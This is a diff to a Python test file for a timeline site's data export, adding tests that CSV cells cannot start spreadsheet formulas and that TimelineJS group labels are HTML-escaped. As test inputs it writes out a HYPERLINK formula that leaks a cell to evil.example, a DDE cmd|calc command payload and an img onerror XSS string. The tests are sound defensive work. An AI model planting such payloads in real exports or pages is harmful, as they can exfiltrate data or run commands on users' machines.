@@ -104,8 +104,17 @@ def test_events_json_round_trips(site, files):
                 assert (source["publisher"], source["original_url"]) == (reference.publisher, reference.url)
 
 
+def as_written(cell: str) -> str:
+    """A CSV cell without the `'` that keeps a spreadsheet from reading it as a formula."""
+    return cell[1:] if cell.startswith("'") and cell[1:].startswith(export.FORMULA_START) else cell
+
+
+def csv_rows(document: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(document, newline="")))
+
+
 def test_events_csv_round_trips_and_matches_the_json(site, files):
-    rows = list(csv.DictReader(io.StringIO(files[urls.EVENTS_CSV], newline="")))
+    rows = [{column: as_written(cell) for column, cell in row.items()} for row in csv_rows(files[urls.EVENTS_CSV])]
     assert list(rows[0]) == [column for column, _ in CSV_COLUMNS]
     assert files[urls.EVENTS_CSV].count("\r\n") >= len(rows) + 1, "RFC 4180 line ends"
     records = json.loads(files[urls.EVENTS_JSON])["events"]
@@ -119,6 +128,29 @@ def test_events_csv_round_trips_and_matches_the_json(site, files):
         assert row["actors"].split() == list(event.actors) and row["topics"].split() == list(event.topics)
         assert row["sources"].split() == list(event.sources)
         assert row["source_urls"].split() == [resolved_url(site, s) for s in event.sources]
+
+
+def test_no_csv_cell_can_start_a_spreadsheet_formula(data_copy):
+    """OWASP's CSV injection rule: a cell starting with = + - @ tab or CR gets a leading ', in every column."""
+    path = data_copy / "timelines" / "example-relations.yml"
+    path.write_text(path.read_text(encoding="utf-8").replace(
+        "headline: Example ministers meet at Example Harbour",
+        "headline: '=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")'\n"
+        "    date_basis: '@SUM(1+1)*cmd|'' /C calc''!A0'").replace(
+        "summary: Example Minister Kim and Example Minister Wang hold invented talks and agree to keep talking.",
+        "summary: '+1+1 and -2'"), encoding="utf-8")
+    site = load_site(data_copy)
+    document = export.events_csv(site, SITE_URL)
+    row = next(row for row in csv_rows(document) if row["id"] == "example-harbour-meeting")
+    assert row["headline"] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"
+    assert row["date_basis"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["summary"] == "'+1+1 and -2"
+    for row in csv_rows(document):
+        for column, cell in row.items():
+            assert not cell.startswith(export.FORMULA_START), (column, cell)
+    # Only the first character counts: the same text later in a cell stays as written.
+    assert export._csv_cell("a=b") == "a=b" and export._csv_cell("\tx") == "'\tx" and export._csv_cell("\rx") == "'\rx"
+    assert export._csv_cell(["-a", "b"]) == "'-a b"
 
 
 def test_people_json_round_trips(site, files):
@@ -164,7 +196,7 @@ def test_timelinejs_file_has_the_formats_required_fields(site, files):
             assert html.unescape(slide["text"]["headline"]) == event.headline
             assert f"{SITE_URL}timelines/{timeline.id}/#{event.id}" in slide["text"]["text"]
             if event.topics:
-                assert slide["group"] == site.topics[event.topics[0]].title
+                assert html.unescape(slide["group"]) == site.topics[event.topics[0]].title
 
 
 def test_timelinejs_text_is_escaped_html(data_copy):
@@ -178,6 +210,20 @@ def test_timelinejs_text_is_escaped_html(data_copy):
     slide = next(s for s in document["events"] if s["unique_id"] == "example-harbour-meeting")
     assert "<img" not in slide["text"]["headline"]
     assert slide["text"]["headline"] == "Example ministers meet &lt;img src=x onerror=alert(1)&gt; &amp; talk"
+
+
+def test_timelinejs_group_is_escaped_html(data_copy):
+    """TimelineJS sets the group label (the first topic's title) as HTML too: an entity typed in a title
+    (the loader already refuses < and >) must show as typed, not as what it stands for."""
+    path = data_copy / "topics.yml"
+    text = path.read_text(encoding="utf-8")
+    title = next(line for line in text.splitlines() if line.strip().startswith("title:"))
+    path.write_text(text.replace(title, title.split("title:")[0] + "title: 'Trade &lt;img src=x onerror=alert(1)&gt; & ports'", 1),
+                    encoding="utf-8")
+    site = load_site(data_copy)
+    groups = {slide.get("group") for slide in json.loads(export.timelinejs_json(
+        site, SITE_URL, site.timelines["example-relations"]))["events"]}
+    assert "Trade &amp;lt;img src=x onerror=alert(1)&amp;gt; &amp; ports" in groups
 
 
 def test_the_data_page_documents_every_field_and_links_every_download(site, files):
